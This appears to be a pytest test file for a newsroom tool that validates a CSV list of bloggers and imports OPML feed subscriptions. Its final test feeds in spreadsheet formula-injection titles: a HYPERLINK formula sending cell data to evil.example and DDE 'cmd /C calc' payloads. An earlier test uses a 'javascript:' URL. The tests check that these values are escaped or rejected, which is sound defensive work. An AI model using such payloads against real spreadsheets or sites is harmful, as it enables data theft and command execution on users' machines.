"""outreach/bloggers.csv: validation with line numbers, and append-only OPML import."""

from __future__ import annotations

import csv
import io

import pytest

from generator.errors import SmrError
from generator.outreach.bloggers import import_opml, read_list
from tests.outreach.support import DATA, OUTREACH_SETTINGS, fill, smr

HEADER = "email,name,blog,blog_url,feed_url,topics,language,notes,opt_out\n"


@pytest.fixture
def room(newsroom):
    from tests.conftest import NEWSROOM_YAML

    newsroom.write("newsroom.yaml", NEWSROOM_YAML + OUTREACH_SETTINGS)
    return newsroom


def listing(room, text: str):
    path = room.write("outreach/bloggers.csv", text)
    return read_list(room.root, path)


def messages(result) -> list[str]:
    return [str(p) for p in result.problems]


def test_valid_rows_are_read_with_topics_language_and_opt_out(room):
    result = listing(room, HEADER +
                     "eva@example.nl,Eva Voorbeeld,Broodblog,https://b.example.nl/,,brood; bakkerij ;,nl,,yes\n"
                     "jan@example.org,Jan Test,,,,,,,\n")
    assert result.problems == []
    eva, jan = result.bloggers
    assert eva.topics == ["brood", "bakkerij"] and eva.language == "nl" and eva.opt_out is True
    assert jan.topics == [] and jan.opt_out is False and jan.blog is None
    assert [r.line for r in result.rows] == [2, 3]


def test_each_bad_row_is_reported_with_its_line_and_skipped(room):
    result = listing(room, HEADER +
                     "ok@example.nl,Goed,,,,,,,\n"                        # 2
                     "geen-adres,Fout Adres,,,,,,,\n"                     # 3
                     "OK@Example.NL,Dubbel,,,,,,,\n"                      # 4
                     ",Zonder Adres,,,,,,,\n"                             # 5
                     "naam@example.nl,,,,,,,,\n"                          # 6
                     "x@example.nl,Slechte Link,,javascript:alert(1),,,,,\n"  # 7
                     "y@example.nl,Misschien,,,,,,,misschien\n"           # 8
                     '"z@example.nl","Meer\nregels",,,,,,,\n'             # 9-10
                     "a b@example.nl,Spatie,,,,,,,\n")                    # 11
    assert [b.name for b in result.bloggers] == ["Goed", "Meer\nregels"]
    assert result.skipped == 7
    shown = "outreach/bloggers.csv"
    text = messages(result)
    assert any(m.startswith(f"{shown}:3: email: not a valid e-mail address") for m in text), text
    assert f"{shown}:4: email: duplicate of line 2 (e-mail addresses are compared without case); this row is skipped" in text
    assert f"{shown}:5: email: field required; this row is skipped" in text
    assert f"{shown}:6: name: field required; this row is skipped" in text
    assert any(m.startswith(f"{shown}:7: blog_url: must be an http") for m in text), text
    assert f"{shown}:8: opt_out: must be 'yes', 'no' or empty; this row is skipped" in text
    assert any(m.startswith(f"{shown}:11: email: not a valid e-mail address") for m in text), text
    assert result.rows[1].line == 9


def test_unknown_column_is_reported_on_the_header_line(room):
    result = listing(room, "email,name,blgo,telefoon\nok@example.nl,Goed,Broodblog,06\n")
    assert messages(result) == [
        "outreach/bloggers.csv:1: blgo: unknown column, its values are ignored (did you mean 'blog'?)",
        "outreach/bloggers.csv:1: telefoon: unknown column, its values are ignored; known columns: "
        "email, name, blog, blog_url, feed_url, topics, language, notes, opt_out",
    ]
    assert [b.blog for b in result.bloggers] == [None]


def test_a_header_without_email_is_an_error(room):
    with pytest.raises(SmrError) as info:
        listing(room, "naam,blog\nEva,Broodblog\n")
    assert str(info.value) == ("outreach/bloggers.csv:1: email: the header has no 'email' column; the columns are "
                               "email, name, blog, blog_url, feed_url, topics, language, notes, opt_out")


def test_dutch_excel_semicolon_list_and_bom_are_read(room):
    path = room.root / "outreach" / "bloggers.csv"
    path.parent.mkdir(parents=True)
    path.write_bytes("\ufeffemail;name;topics\nzoe@example.nl;Zoë Ĳzerman;webcare,brood\n".encode())
    result = read_list(room.root, path)
    assert result.problems == []
    assert result.bloggers[0].name == "Zoë Ĳzerman"
    assert result.bloggers[0].topics == ["webcare,brood"]


def test_check_command_lists_problems_exit_1_and_never_prints_addresses(room):
    room.write("outreach/bloggers.csv", HEADER + "geheim@example.nl,Goed,,,,,,,\nGEHEIM@example.nl,Dubbel,,,,,,,\n")
    result = smr("outreach", "check", "--root", str(room.root))
    assert result.exit_code == 1
    assert "outreach/bloggers.csv:3: email: duplicate of line 2" in result.output
    assert "geheim@" not in result.output.lower()
    assert "Traceback" not in result.output


def test_check_command_ok(room):
    room.write("outreach/bloggers.csv", HEADER + "eva@example.nl,Eva,,,,,,,\n")
    result = smr("outreach", "check", "--root", str(room.root))
    assert result.exit_code == 0, result.output
    assert result.output.strip() == "OK: 1 bloggers in outreach/bloggers.csv."


def test_missing_list_is_a_one_line_error(room):
    result = smr("outreach", "check", "--root", str(room.root))
    assert result.exit_code == 1
    assert result.output.startswith("error: outreach/bloggers.csv: blogger list not found")


def test_opml_import_appends_new_feeds_and_never_rewrites_rows(room):
    base = "http://127.0.0.1:9"
    original = (HEADER + "anna@example.nl,Anna de Wit,Webcare Weetjes,https://webcare.example.nl/,"
                f"{base}/feeds/webcare-nl.xml,webcare,nl,eigen notitie,no")  # no final newline
    path = room.write("outreach/bloggers.csv", original)
    opml = room.write("subscriptions.opml", fill((DATA / "subscriptions.opml").read_text("utf-8"), base))
    report = import_opml(room.root, path, opml)
    assert report.added == ["Nieuw Bakblog", "Café Ĳssel"]
    assert report.skipped == ["Webcare Weetjes: already in the list",
                              "Script: must be an http:// or https:// URL",
                              "Nieuw Bakblog dubbel: already in the list"]
    text = path.read_text("utf-8")
    assert text.startswith(original + "\n")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["notes"] == "eigen notitie"
    assert rows[1] == {"email": "", "name": "", "blog": "Nieuw Bakblog", "blog_url": "https://bakblog.example.nl/",
                       "feed_url": "https://bakblog.example.nl/feed/", "topics": "", "language": "",
                       "notes": "", "opt_out": ""}
    # rows without e-mail and name are flagged by check until someone fills them in
    assert "outreach/bloggers.csv:3: email: field required; this row is skipped" in messages(read_list(room.root, path))
    # a second import adds nothing
    again = import_opml(room.root, path, opml)
    assert again.added == [] and path.read_text("utf-8") == text


def test_import_opml_command_reports_and_creates_the_list(room):
    opml = room.write("feeds.opml", fill((DATA / "subscriptions.opml").read_text("utf-8"), "https://x.example.org"))
    result = smr("outreach", "import-opml", "--root", str(room.root), str(opml))
    assert result.exit_code == 0, result.output
    assert "added    Café Ĳssel" in result.output
    assert "skipped  Script: must be an http:// or https:// URL" in result.output
    assert "3 added, 2 skipped." in result.output
    assert (room.root / "outreach" / "bloggers.csv").read_text("utf-8").startswith(HEADER)


def test_import_of_a_broken_opml_is_one_error(room):
    opml = room.write("broken.opml", "<opml><body><outline")
    result = smr("outreach", "import-opml", "--root", str(room.root), str(opml))
    assert result.exit_code == 1
    assert result.output.startswith("error: broken.opml: not a readable OPML file")
    assert not (room.root / "outreach" / "bloggers.csv").exists()


def test_a_list_saved_in_windows_1252_names_the_line_to_fix(room):
    path = room.root / "outreach" / "bloggers.csv"
    path.parent.mkdir(parents=True)
    path.write_bytes("email,name\neva@example.nl,Eva\nzoe@example.nl,Zoë\n".encode("cp1252"))
    result = smr("outreach", "check", "--root", str(room.root))
    assert result.exit_code == 1
    assert result.output.strip() == ("error: outreach/bloggers.csv:3: not valid UTF-8 (byte 0xeb); "
                                     "save the file as UTF-8")


HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                  "-2+3", "\t=1+1"]


@pytest.mark.parametrize("existing", ["", HEADER.replace(",", ";") + "eva@example.nl;Eva;;;;;;;\n"])
def test_opml_titles_cannot_become_formulas_in_the_list(room, existing):
    """Feed titles and languages are chosen by the blogs' owners; the list is opened in Excel.
    Every such cell gets a leading apostrophe (as the mail merge's do), nothing else changes."""
    from xml.sax.saxutils import quoteattr

    if existing:
        room.write("outreach/bloggers.csv", existing)
    outlines = "".join(f'<outline type="rss" text={quoteattr(title)} title={quoteattr(title)} '
                       f'xmlUrl="https://b{i}.example.org/feed.xml" htmlUrl="https://b{i}.example.org/" '
                       f'language="=1+1"/>' for i, title in enumerate(HOSTILE_TITLES))
    opml = room.write("feeds.opml", f'<?xml version="1.0"?><opml version="2.0"><body>{outlines}</body></opml>')
    result = smr("outreach", "import-opml", "--root", str(room.root), str(opml))
    assert result.exit_code == 0, result.output
    assert f"{len(HOSTILE_TITLES)} added, 0 skipped." in result.output
    text = (room.root / "outreach" / "bloggers.csv").read_text("utf-8")
    assert text.startswith(existing)   # the user's rows as they were
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";" if existing else ","))
    added = rows[1:] if existing else rows
    assert [r["blog"] for r in added] == ["'" + t.strip() for t in HOSTILE_TITLES]
    assert [r["language"] for r in added] == ["'=1+1"] * len(HOSTILE_TITLES)
    assert [r["feed_url"] for r in added] == [f"https://b{i}.example.org/feed.xml" for i in range(len(HOSTILE_TITLES))]
    for row in added:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values() if v)
